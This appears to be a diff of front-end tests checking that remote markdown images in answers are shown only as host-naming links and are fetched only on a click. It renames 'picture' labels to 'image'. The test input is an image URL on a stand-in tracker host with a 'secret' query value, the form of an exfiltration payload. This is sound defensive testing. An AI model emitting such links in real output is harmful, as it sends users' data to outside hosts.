@@ -89,7 +89,7 @@ describe('rows 22, 26, 29, 38: nothing in an answer runs, loads or hides where i
 describe('row 38: pictures from elsewhere', () => {
   it('are only offered as a link that names the host', () => {
     draw('![chart](https://tracker.example.net/pixel.png?q=secret)')
-    expect(screen.getByRole('link', { name: 'chart, picture at tracker.example.net' })).toBeTruthy()
+    expect(screen.getByRole('link', { name: 'chart, image at tracker.example.net' })).toBeTruthy()
     expect(document.querySelector('img')).toBeNull()
   })
 
@@ -101,7 +101,7 @@ describe('row 38: pictures from elsewhere', () => {
     Object.assign(URL, { createObjectURL: () => 'blob:shown', revokeObjectURL: () => undefined })
     draw('![chart](https://tracker.example.net/pixel.png?q=secret)')
     expect(asked).not.toHaveBeenCalled()
-    fireEvent.click(screen.getByRole('button', { name: 'Show picture' }))
+    fireEvent.click(screen.getByRole('button', { name: 'Show image' }))
     expect((await screen.findByRole('img', { name: 'chart' })).getAttribute('src')).toBe(
       'blob:shown',
     )
